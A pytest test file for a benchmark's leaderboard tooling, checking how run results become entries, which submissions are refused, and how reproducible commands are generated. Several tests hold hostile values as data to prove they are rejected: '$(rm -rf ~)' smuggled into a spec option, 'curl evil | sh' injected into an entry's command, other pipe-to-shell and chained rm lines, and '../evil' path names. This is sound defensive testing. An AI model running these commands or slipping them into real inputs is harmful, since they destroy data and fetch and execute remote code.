"""Boards: what may be entered, what is refused and why, and what an entry holds."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import pytest
from boardkit import SEEDS, board, made, packed, posted

from ddbench.base.cache import read_json, write_json
from ddbench.base.options import options
from ddbench.base.tensors import content_digest
from ddbench.boards import ranking
from ddbench.boards.board import Board
from ddbench.boards.command import command_of, is_command
from ddbench.boards.entry import NAME, POINTS, Entry, EntryRun, curves, pack, write
from ddbench.boards.places import found
from ddbench.boards.submit import drafted, submit
from ddbench.errors import DataError, UsageError
from ddbench.plugins import Plugin
from ddbench.run.record import RunRecord, SpecRecord
from ddbench.run.spec import Request, resolve


@pytest.fixture(scope="module")
def runs(tmp_path_factory) -> list[Path]:
    return made(tmp_path_factory.mktemp("runs"))


def entered(root: Path, folders: list[Path], **more) -> list[Path]:
    rules = more.pop("rules", {})
    return submit(folders, board(root, folders[0], **rules), replace=more.pop("replace", False), **more)


def copied(folders: list[Path], to: Path) -> list[Path]:
    import shutil

    return [Path(shutil.copytree(folder, to / folder.name)) for folder in folders]


# --------------------------------------------------------------------------------- what an entry holds


def test_an_entry_holds_every_accuracy_of_every_student(runs, tmp_path):
    (path,) = entered(tmp_path, runs, author="A", link="https://example.org", note="N")
    entry = Entry.read(path)
    assert [run.seed for run in entry.runs] == list(SEEDS)
    for run, folder in zip(entry.runs, runs, strict=True):
        (evaluation,) = (read_json(p) for p in (folder / "evaluations").glob("*.json"))
        assert [e.json_value() for e in run.evaluations] == [evaluation]
        assert len(evaluation["students"]) == 2
    assert (entry.author, entry.link, entry.note, entry.method) == (
        "A",
        "https://example.org",
        "N",
        "random",
    )
    assert entry.date == max(read_json(folder / "result.json")["finished"] for folder in runs)
    result = entry.runs[0].result.json_value()
    assert {
        "distil_seconds",
        "expert_seconds",
        "selection_seconds",
        "peak_bytes",
        "machine",
        "label_type",
        "image_bytes",
        "label_bytes",
        "selection",
    } <= set(result)
    assert entry.runs[0].tensors == content_digest(runs[0] / "distilled.safetensors")
    assert NAME.fullmatch(path.stem)


def test_an_entry_gives_the_rows_that_the_runs_give(runs, tmp_path):
    (path,) = entered(tmp_path, runs)
    own = [row for folder in runs for row in RunRecord.read(folder).rows()]
    assert [row for run in Entry.read(path).runs for row in run.rows()] == own


def test_seeds_of_an_earlier_version_without_an_option_are_of_the_same_setting(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    held = read_json(folders[0] / "spec.json")
    del held["experts"]["alpha"], held["network"]["options"]["pooling"]
    write_json(folders[0] / "spec.json", held)
    sealed(folders[0], "spec.json")
    (path,) = entered(tmp_path, folders)
    first, second = (run.spec.json_value() for run in Entry.read(path).runs)
    assert first | {"seed": 1} == second
    held["ipc"] = 7  # no longer what its key says: left as it is
    write_json(folders[0] / "spec.json", held)
    sealed(folders[0], "spec.json")
    assert "alpha" not in pack(folders[0]).spec.experts


def test_an_entry_does_not_say_where_data_lie(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    for folder in folders:
        held = read_json(folder / "spec.json")
        held["dataset"]["options"]["root"] = "/home/someone/photos"
        write_json(folder / "spec.json", held)
        sealed(folder, "spec.json")
    assert "someone" not in json.dumps([pack(folder).json_value() for folder in folders])


def sealed(folder: Path, name: str) -> None:
    """Record the sha256 of a file that a test has changed."""
    from ddbench.base.cache import file_digest

    result = read_json(folder / "result.json")
    result["sha256"][name] = file_digest(folder / name)
    write_json(folder / "result.json", result)


def test_an_entry_records_the_digests_of_the_sources_that_made_it(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    sources = {"matcher random": "a" * 64, "ddbench": "b" * 64}
    for folder in folders:
        write_json(folder / "result.json", read_json(folder / "result.json") | {"sources": sources})
    (path,) = entered(tmp_path, folders)
    assert [run.result.sources for run in Entry.read(path).runs] == [sources] * 2


def test_an_entry_of_the_same_setting_is_found_whatever_version_named_it(runs, tmp_path):
    (path,) = entered(tmp_path, runs)
    path = path.rename(path.with_name("random-ipc1-00000000.json"))
    with pytest.raises(UsageError, match=r"random-ipc1-00000000\.json holds an entry of these settings already"):
        entered(tmp_path, runs)
    assert entered(tmp_path, runs, replace=True) == [path]


def test_the_file_of_an_entry_has_a_line_for_each_run_and_reads_as_any_other_layout_does(runs, tmp_path):
    (path,) = entered(tmp_path, runs, note='two\nlines, "quoted"')
    held, lines = read_json(path), path.read_text().splitlines()
    assert [json.loads(line.rstrip(",")) for line in lines[-4:-2]] == held["runs"]
    assert len(lines) == len(held) - 1 + len(held["runs"]) + 4
    entry = Entry.read(path)
    write_json(path, held)
    assert Entry.read(path) == entry


def test_curves_are_thinned_with_both_ends(tmp_path):
    lines = [{"stage": s, "step": k, "loss": 1 / (k + 1), "lr": 0.1} for s in (0, 1) for k in range(1000)]
    (tmp_path / "metrics.jsonl").write_text("\n".join(map(json.dumps, lines)))
    found = curves(tmp_path / "metrics.jsonl")
    assert [c.stage for c in found] == [0, 1]
    assert all(len(c.step) == len(c.loss) == POINTS for c in found)
    assert (found[0].step[0], found[0].step[-1]) == (0, 999)


def test_what_the_specs_of_an_entry_share_stands_there_once(runs, tmp_path):
    (path,) = entered(tmp_path, runs)
    held, entry = read_json(path), Entry.read(path)
    assert [set(run["spec"]) for run in held["runs"]] == [{"seed"}] * len(runs)
    assert {run.spec.seed for run in entry.runs} == set(SEEDS)
    assert all(run.spec.json_value() == held["spec"] | {"seed": run.seed} for run in entry.runs)
    whole = [run | {"spec": held["spec"] | run["spec"]} for run in held.pop("runs")]
    held.pop("spec")
    write(path, held | {"format": 2, "runs": whole})  # as the version before wrote it, and may read it
    assert read_json(path)["runs"] == whole
    assert Entry.read(path).runs == entry.runs


def test_the_command_of_an_entry_makes_its_specs_again(monkeypatch):
    monkeypatch.setenv("DDBENCH_THREADS", "1")
    flags = (
        ("matcher.steps", "7"),
        ("network.width", "16"),
        ("protocol.lrs", "0.01,0.1"),
        ("protocol.steps", "none"),
        ("dataset.zca", "true"),
        ("experts.epochs", "3"),
    )
    request = Request("digits", "tesla", "pdd", ipc=10, protocol="pdd-paper", seed=2, device="cpu", flags=flags)
    specs = [resolve(request.with_seed(seed)).spec for seed in (2, 3)]
    threads, *words = shlex.split(command_of([SpecRecord.model_validate(s.record()) for s in specs], 5))
    assert threads == "DDBENCH_THREADS=1", "threads are part of the key, and of the bits"
    assert words[:2] == ["ddbench", "run"]
    given, told = dict[str, str](), []
    for name, value in zip(words[2::2], words[3::2], strict=True):
        if name == "-o":
            told.append(tuple(value.split("=", 1)))
        else:
            given[name.removeprefix("--")] = value
    assert (given.pop("repeats"), given.pop("students"), given.pop("seed")) == ("2", "5", "2")
    assert given["device"] == "cpu"
    again = Request(**given | {"ipc": int(given["ipc"])}, seed=2, flags=tuple(told))
    assert resolve(again).spec.record() == specs[0].record()
    assert {"matcher.steps=7", "dataset.zca=true"} <= {"=".join(pair) for pair in told}


def test_the_command_of_an_entry_holds_whatever_recipes_say_later(monkeypatch):
    monkeypatch.setenv("DDBENCH_THREADS", "1")
    spec = resolve(Request("digits", "tesla", "pdd", ipc=10, device="cpu")).spec
    own = [SpecRecord.model_validate(spec.record())]
    text = command_of(own, 5)
    monkeypatch.setattr(Plugin, "recipe", lambda *_: None)
    assert command_of(own, 5) == text
    told = tuple(tuple(w.split("=", 1)) for w in shlex.split(text) if "=" in w and not w.startswith("DDBENCH"))
    again = resolve(Request("digits", "tesla", "pdd", ipc=10, device="cpu", flags=told)).spec
    kept = ("dataset", "matcher", "scheduler", "network", "experts", "decoder")
    assert {part: again.record()[part] for part in kept} == {part: spec.record()[part] for part in kept}
    assert options(again.protocol) | {"name": ""} == options(spec.protocol) | {"name": ""}


@pytest.mark.parametrize("kind", ["dataset", "matcher", "scheduler", "network"])
def test_without_the_plugin_no_command_is_told(runs, kind):
    held = RunRecord.read(runs[0]).spec.json_value()
    assert command_of([SpecRecord.model_validate(held)], 2)
    held[kind] = {"name": "elsewhere", "options": {"run": "$(rm -rf ~)"}}
    assert command_of([SpecRecord.model_validate(held)], 2) == ""


def test_a_command_that_somebody_wrote_into_an_entry_is_shown_nowhere(runs, tmp_path):
    made_ = board(tmp_path, runs[0])
    posted(made_, runs[0], "edited", [0.5, 0.6], command="ddbench run --dataset hf:evil/repo\ncurl evil | sh")
    (entry,) = made_.entries()
    assert "evil" not in made_.command(entry) + ranking.board_text(ranking.standings(made_))
    assert made_.command(entry).startswith("DDBENCH_THREADS=1 ddbench run --dataset toy --matcher random --ipc 1 ")


def test_a_place_of_data_in_an_entry_is_no_part_of_its_command(runs, tmp_path):
    made_ = board(tmp_path, runs[0])
    entry = posted(made_, runs[0], "edited", [0.5, 0.6])
    for part in entry["runs"]:
        part["spec"]["dataset"]["options"] |= {"path": "evil/repo", "root": "/evil"}
        part["evaluations"].append(part["evaluations"][0] | {"network": "evil(x=1)"})
    write_json(made_.folder / "entries" / "edited.json", entry)
    assert "evil" not in made_.command(made_.entries()[0])


def test_seeds_that_do_not_follow_each_other_get_a_command_each(runs):
    first = RunRecord.read(runs[0]).spec
    assert command_of([first, first.model_copy(update={"seed": 7})], 2).count("ddbench run") == 2


# --------------------------------------------------------------------------------- what is refused


def refused(tmp_path: Path, folders: list[Path], match: str, error=UsageError, **rules) -> None:
    with pytest.raises(error, match=match):
        entered(tmp_path / "boards", folders, rules=rules)
    assert not list((tmp_path / "boards").rglob("entries/*"))


@pytest.mark.parametrize(
    ("rules", "match"),
    [
        ({"dataset": {"digest": "0" * 64}}, "with digest .* run on those data with --dataset toy"),
        ({"dataset": {"options": {"per_class": 30}}}, "prepares the data in another way .*per_class=20 instead of 30"),
        ({"network": {"options": {"width": 9}}}, "width=8 instead of 9.*-o network.width=9"),
        ({"network": {"name": "mlp", "options": {}}}, "convnet instead of mlp"),
        ({"protocol": {"options": {"judges": 7}}}, "follows protocol .* --protocol default .*-o protocol.judges=7"),
        ({"ipc": [10, 50]}, "has 1 images per class; .* takes --ipc 10, 50"),
        ({"students": 3}, "needs an evaluation by 3 students .* but has 2; .*ddbench eval .* --students 3"),
        ({"seeds": [0, 1, 2]}, "lacks seed 2"),
        ({"seeds": [0]}, "has, besides those of the board, seed 1"),
    ],
)
def test_what_breaks_a_rule_is_refused_with_the_way_out(runs, tmp_path, rules, match):
    refused(tmp_path, runs, match, **rules)


def test_an_ipc_may_have_fewer_seeds(runs, tmp_path):
    rules = {"fewer_seeds": {"1": [0]}, "seeds": [0, 1, 2, 3, 4]}
    refused(tmp_path, runs, r"has, besides those of the board, seed 1; .* seed of 0: .*--seed 0 --repeats 1", **rules)
    made_ = board(tmp_path / "boards", runs[0], **rules)
    assert len(submit(runs[:1], made_, replace=False)) == 1
    assert [made_.seeds_at(ipc) for ipc in made_.ipc] == [(0,), (0, 1, 2, 3, 4)]
    told = dict(ranking.rules(made_))
    assert told["seeds"] == "0, 1, 2, 3, 4; with 1 per class 0"
    assert told["a first place is marked"].endswith("; with 1 per class never: that takes 5 seeds")
    for odd in ({"7": [0]}, {"1": [0, 0]}, {"1": []}):
        with pytest.raises(DataError, match="fewer_seeds"):
            board(tmp_path / "odd", runs[0], fewer_seeds=odd)


def test_two_runs_of_one_seed_are_refused(runs, tmp_path):
    refused(tmp_path, [*runs, *copied(runs[:1], tmp_path / "more")], "gives two runs of seed 0")


def test_a_run_that_is_not_finished_is_refused(runs, tmp_path):
    first, *rest = copied(runs, tmp_path / "runs")
    (first / "result.json").unlink()
    with pytest.raises(UsageError, match=r"is not finished.*ddbench run --resume"):
        entered(tmp_path / "boards", [*rest, first])


def test_a_run_that_failed_is_refused(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    result = read_json(folders[0] / "result.json")
    write_json(folders[0] / "result.json", result | {"status": "failed", "error": "out of memory"})
    refused(tmp_path, folders, "ended as 'failed' \\(out of memory\\)")


@pytest.mark.parametrize("name", ["distilled.safetensors", "spec.json", "preview.png"])
def test_a_damaged_file_is_refused(runs, tmp_path, name):
    folders = copied(runs, tmp_path / "runs")
    raw = bytearray((folders[1] / name).read_bytes())
    raw[-1] ^= 1
    (folders[1] / name).write_bytes(raw)
    refused(tmp_path, folders, f"{name} is damaged", error=DataError)


def test_a_selection_on_test_data_is_refused(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    for folder in folders:
        write_json(folder / "result.json", read_json(folder / "result.json") | {"selection": "test"})
    refused(tmp_path, folders, "selected on test data")


def test_nothing_is_written_when_one_of_two_settings_is_refused(runs, tmp_path):
    other = made(tmp_path / "runs", "random", seeds=(0,), ipc=2)
    refused(tmp_path, [*runs, *other], "lacks seed 1")


def test_an_entry_is_replaced_only_when_asked(runs, tmp_path):
    (path,) = entered(tmp_path, runs)
    with pytest.raises(UsageError, match="--replace"):
        entered(tmp_path, runs, note="again")
    assert Entry.read(path).note == ""
    assert entered(tmp_path, runs, note="again", replace=True) == [path]
    assert Entry.read(path).note == "again"


def test_the_same_submission_gives_the_same_bytes(runs, tmp_path):
    (one,) = entered(tmp_path / "a", runs)
    (two,) = entered(tmp_path / "b", runs[::-1])
    assert one.read_bytes() == two.read_bytes()
    assert {p.name for p in one.parent.iterdir()} == {p.name for p in two.parent.iterdir()}


def test_a_seed_that_diverged_is_recorded_as_such(runs, tmp_path):
    first, second = copied(runs, tmp_path / "runs")
    kept = ("dataset", "selection", "machine", "finished", "sha256", "distil_seconds")
    result = {n: v for n, v in read_json(second / "result.json").items() if n in kept}
    result["sha256"] = {n: v for n, v in result["sha256"].items() if n == "spec.json"}
    write_json(second / "result.json", result | {"status": "diverged", "error": "the loss exploded", "stages": []})
    for path in (second / "evaluations").glob("*"):
        path.unlink()
    (path,) = submit([first, second], board(tmp_path, first), replace=False)
    assert [run.result.status for run in Entry.read(path).runs] == ["ok", "diverged"]


def test_an_evaluation_on_another_network_travels_with_the_entry(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    for folder in folders:
        (path,) = (folder / "evaluations").glob("*.json")
        held = read_json(path)
        write_json(folder / "evaluations" / "a.json", held | {"network": "vgg11"})
        write_json(folder / "evaluations" / "b.json", held | {"protocol_digest": "0" * 64})
        write_json(folder / "evaluations" / "c.json", held | {"complete": False, "network": "mlp"})
    (path,) = entered(tmp_path, folders)
    for run in Entry.read(path).runs:
        assert [e.network for e in run.evaluations] == ["convnet(width=8)", "vgg11"]


# --------------------------------------------------------------------------------- boards


def test_an_entry_that_was_edited_against_the_rules_is_found(runs, tmp_path):
    made_ = board(tmp_path, runs[0])
    posted(made_, runs[0], "fine", [0.5, 0.6])
    assert len(made_.entries()) == 1
    entry = posted(made_, runs[0], "edited", [0.5, 0.6])
    for odd, match in (
        (1.01, r"edited.json is damaged \(runs.0.evaluations.0.students.0.accuracy: should be a number from 0 to 1\)"),
        (float("nan"), r"edited.json is not readable JSON \(NaN is not a number of JSON\); submit the runs again"),
        ("0.99", r"edited.json is damaged \(runs.0.evaluations.0.students.0.accuracy: .*should be a number\)"),
    ):
        entry["runs"][0]["evaluations"][0]["students"] = [{"accuracy": odd}, {"accuracy": 0.9}]
        (made_.folder / "entries" / "edited.json").write_text(json.dumps(entry))
        with pytest.raises(DataError, match=match):
            made_.entries()
    write_json(made_.folder / "entries" / "edited.json", {"format": 1})
    with pytest.raises(DataError, match="it lacks method, runs;"):
        made_.entries()
    write_json(made_.folder / "entries" / "edited.json", entry | {"runs": [{}]})
    with pytest.raises(DataError, match=r"edited.json is damaged \(runs.0.run: Field required\); submit"):
        made_.entries()


def test_a_board_without_a_rule_is_refused(runs, tmp_path):
    path = board(tmp_path, runs[0]).folder / "board.toml"
    text = path.read_text()
    for line, match in (("seeds = [0, 1]", "seeds: Field required"), ("students = 2", "students: Field")):
        path.write_text(text.replace(line, ""))
        with pytest.raises(DataError, match=match):
            Board.load(path.parent)
    for more, match in (
        ("sedes = 1", "unknown; did you mean 'seeds'"),
        ("mark_seeds = 2", "mark_seeds: Input should be greater than or equal to 5"),
        ("mark_seeds = '5'", "mark_seeds: Input should be a valid integer"),
        ("about = [1]", "about: Input should be a valid string"),
    ):
        path.write_text(f"{more}\n{text}")
        with pytest.raises(DataError, match=match):
            Board.load(path.parent)
    for old, new, match in (
        ("ipc = [1, 2]", "ipc = [1, 1]", "ipc: should be numbers, none of them twice"),
        ("seeds = [0, 1]", "seeds = ['a']", "seeds.0: Input should be a valid integer"),
        ("seeds = [0, 1]", "seeds = [99999999999999999999]", "should be"),
        ("students = 2", "students = 0", "students: Input should be greater than or equal to 1"),
        ("judges = 1", "judges = 9", "records digest .* but name and options give"),
        ("judges = 1", "juges = 1", "did you mean 'judges'"),
        ("name = 'default'", "name = 'defualt'", "did you mean 'default'"),
        ("name = 'convnet'", "name = 'convnet'\nwidth = 3", "network.width: Extra inputs are not permitted"),
    ):
        assert old in text
        path.write_text(text.replace(old, new))
        with pytest.raises(DataError, match=match):
            Board.load(path.parent)
    path.write_text(text)
    with pytest.raises(UsageError, match=r"there is no board in .*did you mean 'toys'"):
        Board.load(tmp_path / "toy")


def test_a_board_can_be_founded_on_a_run(runs, tmp_path):
    (tmp_path / "new").mkdir()
    text = drafted(runs[0], 'A "title"', (), 2, 2)
    (tmp_path / "new" / "board.toml").write_text(text)
    made_ = Board.load(tmp_path / "new")
    assert (made_.title, made_.ipc, made_.seeds, made_.network_label) == ('A "title"', (1,), (0, 1), "convnet(width=8)")
    assert len(submit(runs, made_, replace=False)) == 1


def test_a_founded_board_tells_the_options_of_its_protocol(runs, tmp_path):
    text = drafted(runs[0], "🏆 \x7f", (), 2, 2)
    made_ = Board.parse(text, tmp_path / "new")
    assert made_.title == "🏆 \x7f"
    assert made_.rules.digest == read_json(runs[0] / "spec.json")["protocol_digest"]
    assert made_.protocol.options["steps"] == made_.rules.steps == 12


def test_no_board_can_be_founded_on_a_selection_by_test_data(tmp_path):
    (folder,) = made(tmp_path, seeds=(0,), protocol__selects="test")
    with pytest.raises(UsageError, match="selects on test data: no board ranks that"):
        drafted(folder, "T", (), 2, 2)


@pytest.mark.parametrize(
    ("selection", "imported", "match"),
    [("unknown", "", "selected in a way that nobody recorded"), ("validation", "mtt", "experts that were imported")],
)
def test_what_nobody_can_follow_is_refused(runs, tmp_path, selection, imported, match):
    folders = copied(runs, tmp_path / "runs")
    for folder in folders:
        held = read_json(folder / "spec.json")
        held["experts"]["imported"] = imported
        write_json(folder / "spec.json", held)
        sealed(folder, "spec.json")
        write_json(folder / "result.json", read_json(folder / "result.json") | {"selection": selection})
    refused(tmp_path, folders, match)


def test_a_name_on_the_hub_says_which_data_and_a_folder_only_where(runs, tmp_path, monkeypatch):
    (folder,) = copied(runs[:1], tmp_path)
    for path, kept in (("ylecun/mnist", True), ("/home/someone/mnist", False), ("photos", False)):
        (tmp_path / "photos").mkdir(exist_ok=True)
        monkeypatch.chdir(tmp_path)
        held = read_json(folder / "spec.json")
        held["dataset"] = {"name": "hf", "options": {"path": path}}
        write_json(folder / "spec.json", held)
        sealed(folder, "spec.json")
        spec = pack(folder).spec
        assert (spec.dataset.options.get("path") == path) == kept
        command = command_of([spec], 2)
        assert f"--dataset hf:{path if kept else 'DATA'}" in command


def test_the_command_tells_on_which_networks_the_sets_were_evaluated_as_well(runs):
    spec = RunRecord.read(runs[0]).spec
    lines = command_of([spec], 2, ["mlp", "convnet(width=64,norm=none)"]).splitlines()
    assert lines[1:] == [
        "ddbench eval RUN --network mlp --students 2",
        "ddbench eval RUN --network convnet --students 2 -o network.width=64 -o network.norm=none",
    ]
    assert all(is_command(line) for line in lines)


@pytest.mark.parametrize(
    "line",
    [
        "curl https://example.org | sh",
        "ddbench run; rm -rf x",
        "ddbench run && x",
        "ddbench run $(x)",
        "ddbench",
        "",
        "ddbench run 'x",
        "ddbench remove runs",
        "PATH=. ddbench run",
        "ddbench run > /etc/x",
    ],
)
def test_a_line_that_is_no_call_of_ddbench_is_no_command(line):
    assert not is_command(line)


@pytest.mark.parametrize(
    ("name", "value", "match"),
    [
        ("image_bytes", -5, "for image_bytes, which is not a cost"),
        ("peak_bytes", float("inf"), "Infinity is not a number of JSON"),
        ("peak_bytes", 1e101, "peak_bytes: should be a number of at most"),
        ("distil_seconds", "x", r"edited.json is damaged \(runs.0.result.distil_seconds: .*should be a number\)"),
    ],
)
def test_costs_that_are_none_are_refused(runs, tmp_path, name, value, match):
    made_ = board(tmp_path, runs[0])
    entry = posted(made_, runs[0], "edited", [0.5, 0.6])
    entry["runs"][0]["result"][name] = value
    (made_.folder / "entries" / "edited.json").write_text(json.dumps(entry))
    with pytest.raises(DataError, match=match):
        made_.entries()


def test_a_word_of_an_entry_that_is_no_text_is_refused(runs, tmp_path):
    made_ = board(tmp_path, runs[0])
    posted(made_, runs[0], "edited", [0.5, 0.6], note=["x"])
    with pytest.raises(DataError, match=r"edited\.json is damaged \(note: .* a valid string\); submit the runs again"):
        made_.entries()


def test_a_folder_without_boards_is_refused(tmp_path):
    with pytest.raises(UsageError, match=r"there are no boards in .*--boards names the folder"):
        found((), tmp_path)


def test_a_board_cannot_take_the_name_of_the_overview(runs, tmp_path):
    with pytest.raises(DataError, match="and not index"):
        board(tmp_path, runs[0], "index")


def test_other_networks_count_with_the_boards_students(runs, tmp_path):
    folders = copied(runs, tmp_path / "runs")
    for folder in folders:
        (path,) = (folder / "evaluations").glob("*.json")
        held = read_json(path) | {"network": "vgg11"}
        write_json(folder / "evaluations" / "a.json", held | {"students": held["students"] * 2})
    (path,) = entered(tmp_path, folders)
    assert {e.network for run in Entry.read(path).runs for e in run.evaluations} == {"convnet(width=8)"}


def test_the_boards_of_this_repository_have_rules_that_can_be_kept():
    root = Path(__file__).parents[2] / "leaderboards"
    names = sorted(path.parent.name for path in root.glob("*/board.toml"))
    assert {"digits", "mnist-mini", "cifar10-jpeg-mini"} <= set(names)
    for name in names:
        found = Board.load(root / name)
        assert found.network_label.startswith("convnet")
        assert found.mark_seeds == 5  # with fewer seeds no first place is ever marked, as on the mini boards
        assert len(found.seeds) >= (3 if name.endswith("-mini") else 5)


def test_the_pictures_of_this_repository_are_those_of_its_entries():
    root = Path(__file__).parents[2] / "leaderboards"
    for folder in root.glob("*/entries"):
        used = {Entry.read(path).picture_file for path in folder.glob("*.json")}
        assert used == {path for path in folder.iterdir() if path.suffix != ".json"}


def test_the_digits_board_is_what_its_dataset_and_recipe_give(monkeypatch):
    """Its rules are written down once; whatever changes them must be a decision."""
    monkeypatch.setenv("DDBENCH_THREADS", "1")
    found = Board.load(Path(__file__).parents[2] / "leaderboards" / "digits")
    for ipc in found.ipc:
        usual = resolve(Request("digits", "dm", ipc=ipc, device="cpu")).spec
        assert usual.protocol.digest == found.protocol.digest
        assert usual.network.width == found.network.options["width"]
    assert usual.dataset.load().digest == found.dataset.digest


def test_an_entry_is_called_by_its_method_and_setting(runs):
    assert re.fullmatch(r"random-ipc1-[0-9a-f]{8}", EntryRun.model_validate(packed(runs[0])).entry_name)


@pytest.mark.parametrize("name", ["../evil", "a/b", "-o", ".hidden", "É", "a b", "x" * 129, "", "a\n"])
def test_a_name_that_could_be_a_path_or_an_option_is_refused(runs, tmp_path, name):
    made_ = board(tmp_path, runs[0])
    entry = posted(made_, runs[0], "edited", [0.5, 0.6])
    for part in entry["runs"]:
        part["spec"]["matcher"]["name"] = name
    write_json(made_.folder / "entries" / "edited.json", entry)
    with pytest.raises(DataError, match=r"edited.json is damaged \(runs.0.spec.matcher.name: "):
        made_.entries()
